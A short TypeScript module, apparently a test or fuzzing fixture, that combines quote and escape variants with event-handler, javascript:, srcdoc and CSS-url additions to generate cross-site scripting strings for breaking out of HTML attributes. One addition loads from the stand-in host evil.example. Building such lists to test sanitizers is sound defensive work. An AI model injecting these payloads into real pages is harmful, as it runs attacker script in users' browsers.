const quotes = ['"', "'", '`', '', '&quot;', '&#34;', '\\"', "\\'", '" "', "' '"];

const handlers = [
  'onmouseover=alert(1)',
  'onfocus=alert(1) autofocus tabindex=1',
  'onpointerenter=alert(1)',
  'onanimationstart=alert(1) style=animation-name:x',
  'oncontentvisibilityautostatechange=alert(1) style=display:block;content-visibility:auto',
  'ontoggle=alert(1) popover',
  'style=background:url(https://evil.example/a)',
  'formaction=javascript:alert(1)',
  'srcdoc=<script>alert(1)</script>',
];

/** Ways to break out of an attribute, each with an addition to the element. */
export const attributes: readonly string[] = quotes.flatMap((quote) =>
  handlers.map((handler) => `x${quote} ${handler} y=${quote}`),
);
